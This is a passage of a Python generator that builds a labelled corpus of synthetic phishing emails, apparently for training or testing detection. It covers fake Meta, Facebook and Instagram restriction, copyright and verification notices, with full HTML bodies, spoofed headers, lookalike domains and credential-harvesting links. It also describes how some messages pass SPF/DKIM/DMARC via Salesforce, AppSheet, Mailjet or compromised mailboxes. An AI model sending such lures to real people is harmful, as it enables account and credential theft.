<p>Thank you,<br>The Meta Support Team</p>
{META_FOOT_HTML}
</td></tr></table></td></tr></table></div>
"""
    own = gmail_own(seed, sent, "pacific", frm, "maya@lunaandfern.com", subject, "lunaandfern.com")
    return mail("luna", "maya@lunaandfern.com", "2025-02-11 16:42:09", a, seed, own,
                alt(plain, html, bnd_gmail(seed)))


@entry("b37-phish-meta-salesforce-mailer", "phish", "phishing",
       "'Meta Business Support' notice relayed through a Salesforce org (noreply@salesforce.com passes SPF/DKIM/"
       "DMARC) claiming the agency's ad account is restricted; review link is a Vercel-hosted Meta login clone")
def p_meta_salesforce():
    seed = "p2"
    t = utc("2024-08-07 13:05:44")
    sent = ago(t, 3)
    a = Auth("13.110.74.206", "smtp06-ia4-sp3.mta.salesforce.com", "noreply@salesforce.com", "salesforce.com",
             dkim=[("salesforce.com", "sf112023", "pass")], p="reject")
    url = "https://business-meta-restricted-review.vercel.app/appeal?case=ADV-5529047781"
    subject = "Action required: your ad account has been restricted from advertising"
    boundary = bnd_java(seed)
    plain = f"""Meta Business Support

Your ad account has been restricted from advertising

Hi,

We've detected activity on ad account "Northbound Social - Client Ads" (ID: 1093347761524580) that
doesn't follow our Advertising Standards. To protect people on our technologies, this ad account and
its connected Business portfolio have been restricted from advertising.

What you can do
If you think this is a mistake, you can request another review within 48 hours. If we don't receive a
request, the restriction will become permanent and the connected Pages may be unpublished.

Request review: {url}

Case number: ADV-5529047781

Meta Business Support
(c) Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#ffffff;">
<table align="center" width="600" cellpadding="0" cellspacing="0" style="font-family:Roboto,Helvetica,Arial,sans-serif;color:#1c2b33;">
<tr><td style="padding:24px 0 12px;"><img src="https://static.xx.fbcdn.net/rsrc.php/v3/y5/r/7bjnkJmGSVf.png" width="80" alt="Meta"></td></tr>
<tr><td style="font-size:24px;font-weight:500;padding-bottom:16px;">Your ad account has been restricted from advertising</td></tr>
<tr><td style="font-size:15px;line-height:22px;">
<p>Hi,</p>
<p>We've detected activity on ad account <b>&quot;Northbound Social - Client Ads&quot;</b> (ID: 1093347761524580) that doesn't follow our Advertising Standards. To protect people on our technologies, this ad account and its connected Business portfolio have been restricted from advertising.</p>
<p style="font-weight:bold;margin-bottom:4px;">What you can do</p>
<p style="margin-top:0;">If you think this is a mistake, you can request another review within <b>48 hours</b>. If we don't receive a request, the restriction will become permanent and the connected Pages may be unpublished.</p>
<table cellpadding="0" cellspacing="0"><tr><td style="background:#0064e0;border-radius:6px;padding:10px 22px;"><a href="{url}" style="color:#ffffff;text-decoration:none;font-weight:500;">Request review</a></td></tr></table>
<p style="color:#465a69;font-size:13px;margin-top:24px;">Case number: ADV-5529047781</p>
</td></tr>
<tr><td style="border-top:1px solid #cbd2d9;padding-top:14px;font-size:11px;color:#67788a;">&copy; Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></body></html>
"""
    own = [
        dkim("salesforce.com", "sf112023", seed, sent, "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:"
             "Content-Type"),
        f"Received: from [10.12.39.{num(seed + 'ip', 2)}] ([10.12.39.{num(seed + 'ip', 2)}:{num(seed + 'port', 5)}] "
        f"helo=na174-app2-39-ia4.ops.sfdc.net)\n\tby mx1-ia4-sp3.mta.salesforce.com (envelope-from <noreply@salesforce.com>)\n"
        f"\t(ecelerity 4.2.38.62368 r(Strike:mta-4.2.38-20231102.173226)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384\n"
        f"\tsubject=\"/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia4;2:ia4-sp3;3:na174;4:prod/"
        f"CN=na174-app2-39-ia4.ops.sfdc.net\")\n\tid 3F/0C-{num(seed + 'e1', 5)}-{tok(seed + 'e2', 8, UHEX)}; {dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        "From: Meta Business Support <noreply@salesforce.com>",
        "Reply-To: noreply@salesforce.com",
        "To: jess@northboundsocial.com",
        f"Message-ID: <{tok(seed + 'sf', 15, ALNUM)}000000000000000000000000000000000000000000000000"
        f"{tok(seed + 'sf2', 8, UPPER + DIG)}00{tok(seed + 'sf3', 22, ALNUM)}@sfdc.net>",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
        "X-Priority: 3",
        "X-SFDC-LK: 00D5j00000C8pQb",
        "X-SFDC-User: 0055j00000BfK2a",
        "X-Sender: postmaster@salesforce.com",
        "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
        "X-SFDC-TLS-NoRelay: 1",
        f"X-SFDC-Binding: {tok(seed + 'bind', 16, ALNUM)}",
        "X-SFDC-EmailCategory: apiSingleMail",
        "X-SFDC-Interface: internal",
    ]
    return mail("north", "jess@northboundsocial.com", "2024-08-07 13:05:44", a, seed, own,
                alt(plain, html, boundary))


@entry("b37-phish-meta-appsheet-verify", "phish", "phishing",
       "'Facebook Support' notice sent through Google AppSheet (noreply@appsheet.com, authenticates cleanly) "
       "threatening account deletion unless the business is verified; link to a Cloudflare Pages credential/2FA kit")
def p_meta_appsheet():
    seed = "p3"
    t = utc("2025-04-24 09:31:12")
    sent = ago(t, 2)
    a = Auth("209.85.216.69", "mail-pj1-f69.google.com", "noreply@appsheet.com", "appsheet.com",
             helo="mail-pj1-f69.google.com", dkim=[("appsheet.com", "20230601", "pass")], p="quarantine")
    url = "https://meta-business-verification-center.pages.dev/?cid=FB-7719-2025-04"
    subject = "Your Facebook account has been restricted - verify your business by April 26"
    plain = f"""Facebook

Account restriction notice

Hello Kestrel & Co Ceramics,

Your Facebook account and the Business Page linked to it have been scheduled for deletion because
we could not confirm the identity of the business that owns them.

To keep your account, please complete business verification before 26 April 2025. Accounts that are
not verified will be permanently removed and cannot be recovered.

Verify now: {url}

Reference: FB-7719-2025-04

Facebook Support Team

This email was sent using AppSheet. AppSheet is a Google product.
"""
    html = f"""<div style="background:#f0f2f5;padding:30px 0;font-family:Segoe UI,Helvetica,Arial,sans-serif;">
<div style="max-width:520px;margin:0 auto;background:#fff;border:1px solid #dddfe2;border-radius:6px;">
<div style="background:#1877f2;padding:14px 24px;border-radius:6px 6px 0 0;"><span style="color:#fff;font-size:24px;font-weight:bold;">facebook</span></div>
<div style="padding:24px;font-size:14px;line-height:20px;color:#1d2129;">
<h2 style="font-size:18px;margin:0 0 16px;">Account restriction notice</h2>
<p>Hello Kestrel &amp; Co Ceramics,</p>
<p>Your Facebook account and the Business Page linked to it have been <b>scheduled for deletion</b> because we could not confirm the identity of the business that owns them.</p>
<p>To keep your account, please complete business verification before <b>26 April 2025</b>. Accounts that are not verified will be permanently removed and cannot be recovered.</p>
<p style="text-align:center;padding:12px 0;"><a href="{url}" style="display:inline-block;background:#1877f2;color:#fff;padding:10px 24px;border-radius:6px;text-decoration:none;font-weight:bold;">Verify now</a></p>
<p style="color:#90949c;font-size:12px;">Reference: FB-7719-2025-04</p>
<p>Facebook Support Team</p>
</div></div>
<p style="text-align:center;font-size:11px;color:#9aa0a6;margin-top:18px;">This email was sent using AppSheet. AppSheet is a Google product.</p>
</div>
"""
    boundary = bnd_gmail(seed)
    own = [
        dkim("appsheet.com", "20230601", seed, sent, "to:subject:message-id:date:from:mime-version:from:to:cc:subject"
             ":date\n\t :message-id:reply-to", x=604800),
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        f"X-Received: by 2002:a17:90b:{_hx(seed + 'a', 4)}:b0:{_hx(seed + 'b', 3)}:{_hx(seed + 'c', 4)} with SMTP id "
        f"{tok(seed + 'd', 16, LOW)}-{tok(seed + 'e', 8, LOW)}.{num(seed + 'f', 2)}.{epoch(sent)}{num(seed + 'g', 3)};\n"
        f"        {dt(sent, 'pacific', True)}",
        "MIME-Version: 1.0",
        "From: Facebook Support <noreply@appsheet.com>",
        f"Date: {dt(sent)}",
        f"Message-ID: <{tok(seed + 'm', 28, HEX)}@google.com>",
        f"Subject: {subject}",
        "To: sam@kestrelandco.co.uk",
    ]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-04-24 09:31:12", a, seed, own,
                alt(plain, html, boundary))


@entry("b37-phish-meta-fb-comment-mention", "phish", "phishing",
       "Genuine facebookmail.com notification (passes everything) that a Page named 'Meta Business Support' "
       "mentioned the shop in a comment; the quoted comment is the lure: Page 'will be unpublished', confirm at a "
       "lookalike appeal site")
def p_meta_fb_comment():
    seed = "p4"
    t = utc("2024-10-03 18:22:51")
    sent = ago(t, 1)
    a = Auth("69.171.232.143", "69-171-232-143.mail-mxout.facebook.com", "notification@facebookmail.com",
             "facebookmail.com", helo="69-171-232-143.mail-mxout.facebook.com",
             dkim=[("facebookmail.com", "s2048-2021-q4", "pass")], p="reject")
    mid = tok(seed + "mid", 12, HEX)
    lure = "meta-pagesupport-appeal.com/case/LF-220941"
    track = (f"https://www.facebook.com/nd/?permalink.php&story_fbid=pfbid0{tok(seed + 's', 40, ALNUM)}"
             f"&id=61566012345678&comment_id=1089{num(seed + 'c', 11)}&aref={num(seed + 'ar', 13)}"
             f"&medium=email&mid={mid}&n_m=hello%40lunaandfern.com&rms=v2&irms=true")
    subject = "Meta Business Support mentioned Luna & Fern Candle Co. in a comment"
    comment = ("Luna & Fern Candle Co. Your Page has been reported for trademark infringement and will be "
               "unpublished within 24 hours. To avoid permanent restriction, confirm that you are the owner of "
               f"this Page here: {lure} If you do not complete the confirmation your Page will be deleted. "
               "Meta Business Support Team")
    plain = f"""Meta Business Support mentioned Luna & Fern Candle Co. in a comment.

Meta Business Support wrote: "{comment}"

View comment
{track}

This message was sent to hello@lunaandfern.com. If you don't want to receive these emails from Meta in the
future, please unsubscribe.
Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Facebook</title></head>
<body style="margin:0;padding:0;" dir="ltr" bgcolor="#ffffff"><table border="0" cellspacing="0" cellpadding="0" align="center" id="email_table" style="border-collapse:collapse;"><tr><td id="email_content" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;background:#ffffff;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td height="20" style="line-height:20px;" colspan="3">&nbsp;</td></tr>
<tr><td width="15"></td><td style="font-size:16px;line-height:21px;color:#141823;"><span style="color:#1877f2;font-weight:bold;font-size:20px;">facebook</span></td><td width="15"></td></tr>
<tr><td width="15"></td><td style="padding-top:16px;font-size:16px;line-height:21px;color:#141823;"><span style="font-weight:bold;">Meta Business Support</span> mentioned <span style="font-weight:bold;">Luna &amp; Fern Candle Co.</span> in a comment.</td><td width="15"></td></tr>
<tr><td width="15"></td><td style="padding-top:12px;"><table cellspacing="0" cellpadding="0" style="border-collapse:collapse;background:#f2f3f5;border-radius:12px;"><tr><td style="padding:10px 14px;font-size:14px;line-height:19px;color:#1c1e21;"><span style="font-weight:bold;">Meta Business Support</span><br>{comment}</td></tr></table></td><td width="15"></td></tr>
<tr><td width="15"></td><td style="padding-top:18px;"><a href="{track}" style="color:#ffffff;text-decoration:none;"><table cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="background:#1877f2;border-radius:6px;padding:8px 16px;font-size:14px;font-weight:bold;color:#ffffff;">View comment</td></tr></table></a></td><td width="15"></td></tr>
<tr><td width="15"></td><td style="padding-top:28px;font-size:11px;color:#aaaaaa;line-height:16px;">This message was sent to <a href="mailto:hello@lunaandfern.com" style="color:#1b74e4;text-decoration:none;">hello@lunaandfern.com</a>. If you don't want to receive these emails from Meta in the future, please <a href="https://www.facebook.com/o.php?k={tok(seed + 'k', 8, ALNUM)}&amp;u=61554200112233&amp;mid={mid}&amp;ee=AY{tok(seed + 'ee', 40, ALNUM + '_-')}" style="color:#1b74e4;text-decoration:none;">unsubscribe</a>.<br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td><td width="15"></td></tr>
</table></td></tr></table>
<span><img src="https://www.facebook.com/email_open_log_pic.php?mid={mid}&amp;ee=AY{tok(seed + 'ee', 40, ALNUM + '_-')}" style="border:0;width:1px;height:1px;"></span></body></html>
"""
    boundary = f"b1_{tok(seed + 'b', 40, ALNUM)}"
    own = [
        dkim("facebookmail.com", "s2048-2021-q4", seed, sent, "Date:To:Subject:Message-ID:From:Reply-to:MIME-Version:"
             "Content-Type", c="simple/relaxed"),
        f"Received: from facebook.com (U6nIc{tok(seed + 'th', 56, ALNUM + '+/')}\n 2a03:2880:23ff:{_hx(seed + 'v6', 2)}::face:b00c)\n"
        f" by facebook.com with Thrift id {tok(seed + 'tid', 32, HEX)}-{tok(seed + 'tid2', 8, HEX)};\n"
        f" {dt(ago(sent, 1), 'pacific')}",
        f"Date: {dt(sent, 'pacific')}",
        "To: \"Luna & Fern Candle Co.\" <hello@lunaandfern.com>",
        "From: \"Facebook\" <notification@facebookmail.com>",
        "Reply-to: noreply <noreply@facebookmail.com>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'msg', 32, HEX)}@async.facebook.com>",
        "X-Priority: 3",
        "X-Mailer: ZuckMail [version 1.00]",
        f"X-Facebook-Notify: comment_mention; mailid={mid}",
        "X-FACEBOOK-PRIORITY: 0",
        "X-Auto-Response-Suppress: All",
        f"List-Unsubscribe: <https://www.facebook.com/o.php?k={tok(seed + 'k', 8, ALNUM)}&u=61554200112233&mid={mid}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "Feedback-ID: 0:comment_mention:Facebook",
        "MIME-Version: 1.0",
    ]
    return mail("luna", "hello@lunaandfern.com", "2024-10-03 18:22:51", a, seed, own, alt(plain, html, boundary))


@entry("b37-phish-meta-ads-form-compromised", "phish", "phishing",
       "Compromised plumbing-company M365 mailbox (passes SPF/DKIM/DMARC) mass-mails a 'Meta Ads Policy Violation' "
       "notice to Bcc recipients; appeal link is a Google Form harvesting Facebook login and 2FA codes")
def p_meta_ads_form():
    seed = "p5"
    t = utc("2025-06-18 15:47:20")
    sent = ago(t, 4)
    a = Auth("40.107.220.112", "mail-bn8nam11on2112.outbound.protection.outlook.com", "daniel@reyesplumbingtx.com",
             "reyesplumbingtx.com", helo="NAM11-BN8-obe.outbound.protection.outlook.com",
             dkim=[("reyesplumbingtx.com", "selector1", "pass")], p="none")
    form = f"https://docs.google.com/forms/d/e/1FAIpQLSf{tok(seed + 'f', 48, ALNUM + '_-')}/viewform?usp=sf_link"
    subject = "Meta Ads: Policy Violation Notice - Ad Account Review #3390127"
    plain = f"""Meta Ads Team

Dear Advertiser,

We have identified that one or more of your recent ads were flagged for violating Meta Advertising
Policies (Prohibited Content: Unauthorized use of intellectual property).

As a result, your ad account has been temporarily restricted and all running campaigns have been paused.
You may submit an appeal using the form below. If no appeal is received within 24 hours, your ad account
and associated Business Manager will be permanently disabled.

Submit appeal: {form}

Review number: #3390127

Regards,
Meta Ads Policy Team
"""
    html = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0in;font-size:11.0pt;font-family:"Aptos",sans-serif;}}--></style></head>
<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal"><b><span style="font-size:14.0pt;color:#0866FF">Meta Ads Team</span></b></p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">Dear Advertiser,</p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">We have identified that one or more of your recent ads were flagged for violating Meta Advertising Policies (Prohibited Content: Unauthorized use of intellectual property).</p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">As a result, your ad account has been temporarily restricted and all running campaigns have been paused. You may submit an appeal using the form below. If no appeal is received within <b>24 hours</b>, your ad account and associated Business Manager will be permanently disabled.</p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal"><a href="{form}">Submit appeal</a></p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">Review number: #3390127</p>
<p class="MsoNormal">&nbsp;</p>
<p class="MsoNormal">Regards,<br>Meta Ads Policy Team</p>
</div></body></html>
"""
    own = outlook_own(seed, sent, "central", "Daniel Reyes <daniel@reyesplumbingtx.com>", "Daniel Reyes <daniel@reyesplumbingtx.com>",
                      subject, "reyesplumbingtx.com", site="nam")
    return mail("north", "ops@northboundsocial.com", "2025-06-18 15:47:20", a, seed, own,
                alt(plain, html, bnd_outlook(seed, "nam")))


@entry("b37-phish-meta-verified-qr-es", "phish", "phishing",
       "Spanish 'Meta Verified' notice from a lookalike domain sent through Amazon SES: the shop must re-verify its "
       "identity to keep the badge; the only way in is an inline QR code pointing to a credential kit")
def p_meta_verified_qr():
    seed = "p6"
    t = utc("2025-09-09 08:14:55")
    sent = ago(t, 2)
    dom = "meta-verificado-soporte.com"
    envfrom = f"{mid_ses(seed, 'eu-west-1')[1:].split('@')[0]}@eu-west-1.amazonses.com"
    a = Auth("54.240.3.21", "a3-21.smtp-out.eu-west-1.amazonses.com", envfrom, dom,
             dkim=[(dom, tok(seed + "sel", 32, LOW), "pass"), ("amazonses.com", "uku4taia5b5tsttewvq5oxe4m3ujm3bd", "pass")],
             p="none")
    target = f"https://verificacion.{dom}/es/id?c={tok(seed + 'c', 12, ALNUM)}"
    png = files.qr_png(target)
    subject = "Meta Verified: confirma tu identidad para conservar la insignia de tu página"
    plain = """Meta Verified

Hola, Casa Olivo:

Hemos detectado que la información de identidad asociada a tu suscripción a Meta Verified no coincide
con los datos de tu cuenta comercial. Para conservar la insignia de verificación y la protección contra
suplantación, debes confirmar tu identidad en las próximas 48 horas.

Por motivos de seguridad, la verificación solo puede completarse desde un dispositivo móvil. Escanea el
código QR con la cámara de tu teléfono.

Si no completas la verificación, la insignia se eliminará y tu página podría quedar restringida.

El equipo de Meta Verified
Meta Platforms Ireland Ltd., Merrion Road, Dublín 4, D04 X2K5, Irlanda
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 12px;">
<table width="540" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:10px;">
<tr><td style="padding:22px 30px 6px;font-size:20px;font-weight:bold;color:#0866ff;">Meta Verified &#10004;</td></tr>
<tr><td style="padding:10px 30px;font-size:15px;line-height:22px;color:#1c2b33;">
<p>Hola, <b>Casa Olivo</b>:</p>
<p>Hemos detectado que la información de identidad asociada a tu suscripción a Meta Verified no coincide con los datos de tu cuenta comercial. Para conservar la insignia de verificación y la protección contra suplantación, debes confirmar tu identidad en las próximas <b>48 horas</b>.</p>
<p>Por motivos de seguridad, la verificación solo puede completarse desde un dispositivo móvil. <b>Escanea el código QR con la cámara de tu teléfono.</b></p>
</td></tr>
<tr><td align="center" style="padding:8px 0 18px;"><img src="cid:qr-verificacion@meta" width="200" height="200" alt="Código QR"></td></tr>
<tr><td style="padding:0 30px 22px;font-size:13px;color:#65676b;line-height:19px;">Si no completas la verificación, la insignia se eliminará y tu página podría quedar restringida.<br><br>El equipo de Meta Verified<br>Meta Platforms Ireland Ltd., Merrion Road, Dublín 4, D04 X2K5, Irlanda</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("mixed", f"----=_Part_{num(seed + 'bm', 6)}_{num(seed + 'bm2', 9)}.{epoch(sent)}123", [
        Multi("related", f"----=_Part_{num(seed + 'br', 6)}_{num(seed + 'br2', 9)}.{epoch(sent)}124", [
            alt(plain, html, f"----=_Part_{num(seed + 'ba', 6)}_{num(seed + 'ba2', 9)}.{epoch(sent)}125"),
            Leaf("image/png", png, "base64", '; name="qr.png"', 'inline; filename="qr.png"',
                 ["Content-ID: <qr-verificacion@meta>"]),
        ]),
    ])
    own = [
        dkim(dom, tok(seed + "sel", 32, LOW), seed + "d1", sent, "Subject:From:To:MIME-Version:Content-Type:Message-ID:Date"),
        dkim("amazonses.com", "uku4taia5b5tsttewvq5oxe4m3ujm3bd", seed + "d2", sent,
             "Subject:From:To:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID"),
        f"Subject: {enc(subject)}",
        f"From: Meta Verified <no-reply@{dom}>",
        "To: hola@casaolivo.es",
        "MIME-Version: 1.0",
        f"Message-ID: {mid_ses(seed, 'eu-west-1')}",
        f"Date: {dt(sent)}",
        f"Feedback-ID: ::1.eu-west-1.{tok(seed + 'fb', 44, ALNUM)}=:AmazonSES",
        f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-54.240.3.21",
    ]
    return mail("olivo", "hola@casaolivo.es", "2025-09-09 08:14:55", a, seed, own, body)


@entry("b37-phish-instagram-copyright-lookalike", "phish", "phishing",
       "'Instagram' copyright-infringement report from a lookalike domain on a VPS (its own SPF/DKIM pass, no DMARC); "
       "'Appeal' link on the same lookalike collects Instagram credentials")
def p_instagram_copyright():
    seed = "p7"
    t = utc("2024-05-20 11:02:37")
    sent = ago(t, 2)
    dom = "instagram-copyrightcenter.com"
    a = Auth("45.153.34.210", f"mail.{dom}", f"security@{dom}", dom, dkim=[(dom, "default", "pass")], dmarc=None,
             tls="TLS1_2")
    url = f"https://{dom}/appeal/kestrelandco?ref={tok(seed + 'r', 20, ALNUM)}"
    subject = "Copyright infringement report on your account @kestrelandco"
    plain = f"""Instagram

Hi kestrelandco,

We received a report that a post on your account infringes someone's copyright. If you don't respond
within 24 hours, your account will be permanently removed according to our Terms of Use.

If you believe this report is a mistake, you can appeal the decision:
{url}

Report ID: 7840316629

Thanks,
The Instagram Team

(c) Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff;">
<table width="100%" style="font-family:-apple-system,BlinkMacSystemFont,Segoe UI,Helvetica,Arial,sans-serif;"><tr><td align="center">
<table width="430" style="padding:20px 0;"><tr><td style="padding-bottom:20px;"><span style="font-family:Georgia,serif;font-size:28px;color:#262626;">Instagram</span></td></tr>
<tr><td style="font-size:14px;color:#262626;line-height:20px;">
<p>Hi kestrelandco,</p>
<p>We received a report that a post on your account infringes someone's copyright. If you don't respond within 24 hours, your account will be permanently removed according to our Terms of Use.</p>
<p>If you believe this report is a mistake, you can appeal the decision.</p>
<p style="padding:10px 0;"><a href="{url}" style="background:#0095f6;color:#ffffff;padding:9px 18px;border-radius:8px;text-decoration:none;font-weight:600;">Appeal</a></p>
<p style="color:#8e8e8e;">Report ID: 7840316629</p>
<p>Thanks,<br>The Instagram Team</p>
</td></tr>
<tr><td style="border-top:1px solid #dbdbdb;padding-top:14px;font-size:11px;color:#8e8e8e;">&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "default", seed, sent, "Date:From:To:Subject:From", c="relaxed/simple"),
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id "
        f"{tok(seed + 'q', 10, UHEX)}\n\tfor <sam@kestrelandco.co.uk>; {dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        f"To: sam@kestrelandco.co.uk",
        f"From: Instagram <security@{dom}>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'pm', 32, ALNUM)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2024-05-20 11:02:37", a, seed, own,
                alt(plain, html, bnd_php(seed)))


@entry("b37-phish-meta-markenrecht-mailjet-de", "phish", "phishing",
       "German 'Meta Rechtsabteilung' trademark complaint from a lookalike .de domain sent via Mailjet; the Page will "
       "be blocked unless the owner files an objection through a tracked link to a Meta login/2FA kit")
def p_meta_markenrecht():
    seed = "p38"
    t = utc("2025-11-18 10:20:04")
    sent = ago(t, 3)
    dom = "meta-markenschutz-support.de"
    a = Auth("185.189.236.114", "o114.p25.mailjet.com", f"{tok(seed + 'bn', 10, LOW)}.{num(seed + 'bn2', 7)}@bnc3.mailjet.com",
             dom, dkim=[(dom, "mailjet", "pass"), ("mailjet.com", "mailjet", "pass")], dmarc="pass", p="none")
    target = f"https://widerspruch.{dom}/fall/DE-55{num(seed + 'f', 6)}"
    import base64 as _b64
    mj = (f"https://{tok(seed + 'mj', 5, LOW)}.mjt.lu/lnk/AV{tok(seed + 'l1', 22, ALNUM)}/1/"
          f"{tok(seed + 'l2', 22, ALNUM + '-_')}/{_b64.urlsafe_b64encode(target.encode()).decode().rstrip('=')}")
    subject = "Letzte Mitteilung: Ihre Facebook-Seite wird wegen Markenrechtsverletzung gesperrt"
    plain = f"""Meta Rechtsabteilung

Sehr geehrte Seitenbetreiberin, sehr geehrter Seitenbetreiber,

wir haben eine Beschwerde wegen einer möglichen Verletzung von Markenrechten im Zusammenhang mit Ihrer
Seite "Holzwerk Lindner" erhalten. Der Beschwerdeführer gibt an, dass auf Ihrer Seite Logos und
Produktbilder ohne Genehmigung verwendet werden.

Gemäß unseren Nutzungsbedingungen wird Ihre Seite in 24 Stunden gesperrt, sofern Sie keinen Widerspruch
einlegen. Wenn Sie der Meinung sind, dass es sich um einen Irrtum handelt, können Sie über den folgenden
Link Widerspruch einlegen:

Widerspruch einlegen: {mj}

Fallnummer: #DE-5541187

Mit freundlichen Grüßen
Meta Rechtsabteilung
Meta Platforms Ireland Limited, Merrion Road, Dublin 4, D04 X2K5, Irland
"""
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>Meta</title></head>
<body style="word-spacing:normal;background-color:#F4F4F4;"><div style="background-color:#F4F4F4;">
<div style="margin:0px auto;max-width:600px;background:#ffffff;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;"><tbody><tr><td style="direction:ltr;font-size:0px;padding:24px 28px;text-align:left;">
<div style="font-family:Arial,sans-serif;font-size:22px;font-weight:bold;color:#0866ff;padding-bottom:14px;">Meta</div>
<div style="font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#1c2b33;">
<p>Sehr geehrte Seitenbetreiberin, sehr geehrter Seitenbetreiber,</p>
<p>wir haben eine Beschwerde wegen einer möglichen Verletzung von Markenrechten im Zusammenhang mit Ihrer Seite <b>&bdquo;Holzwerk Lindner&ldquo;</b> erhalten. Der Beschwerdeführer gibt an, dass auf Ihrer Seite Logos und Produktbilder ohne Genehmigung verwendet werden.</p>
<p>Gemäß unseren Nutzungsbedingungen wird Ihre Seite in <b>24 Stunden gesperrt</b>, sofern Sie keinen Widerspruch einlegen. Wenn Sie der Meinung sind, dass es sich um einen Irrtum handelt, können Sie über den folgenden Link Widerspruch einlegen:</p>
<p style="padding:8px 0;"><a href="{mj}" style="background:#0866ff;color:#ffffff;padding:11px 24px;border-radius:6px;text-decoration:none;font-weight:bold;" target="_blank">Widerspruch einlegen</a></p>
<p style="color:#65676b;font-size:12px;">Fallnummer: #DE-5541187</p>
<p>Mit freundlichen Grüßen<br>Meta Rechtsabteilung</p>
<p style="font-size:11px;color:#8a8d91;">Meta Platforms Ireland Limited, Merrion Road, Dublin 4, D04 X2K5, Irland</p>
</div></td></tr></tbody></table></div></div>
<img src="https://{tok(seed + 'mj', 5, LOW)}.mjt.lu/oo/AV{tok(seed + 'l1', 22, ALNUM)}/{tok(seed + 'l3', 8, ALNUM)}/e.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0;">
</body></html>
"""
    own = [
        dkim(dom, "mailjet", seed + "1", sent, "Message-Id:Date:Subject:From:To:MIME-Version:Content-Type",
             c="relaxed/relaxed", q=True),
        dkim("mailjet.com", "mailjet", seed + "2", sent, "Message-Id:Date:Subject:From:To:MIME-Version:Content-Type",
             q=True),
        f"Message-Id: <{tok(seed + 'mid', 8, HEX)}.AV{tok(seed + 'mid2', 14, ALNUM)}@mailjet.com>",
        f"Date: {dt(sent)}",
        f"Subject: {enc(subject)}",
        f"From: Meta Rechtsabteilung <rechtsabteilung@{dom}>",
        "To: info@holzwerk-lindner.de",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"X-MJ-Mid: AV{tok(seed + 'mjmid', 38, ALNUM)}",
        "X-Mailjet-Campaign: 1",
        "MIME-Version: 1.0",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2025-11-18 10:20:04", a, seed, own,
                alt(plain, html, f"{tok(seed + 'bnd', 10, ALNUM)}=_?:"))


@entry("b37-phish-gcal-invite-meta-review", "phish", "phishing",
       "Real Google Calendar invitation (sent by Google for an attacker's Gmail, authenticates) titled 'Meta Ads "
       "Account Review - Mandatory'; the event description carries the lure and a Firebase-hosted verification link")
def p_gcal_invite():
    seed = "p26"
    t = utc("2025-01-22 17:03:11")
    sent = ago(t, 2)
    org = "adsreview.metabusinessteam@gmail.com"
    a = Auth("209.85.220.73", "mail-sor-f73.google.com", f"3{tok(seed + 'env', 20, ALNUM)}@calendar-server.bounces.google.com",
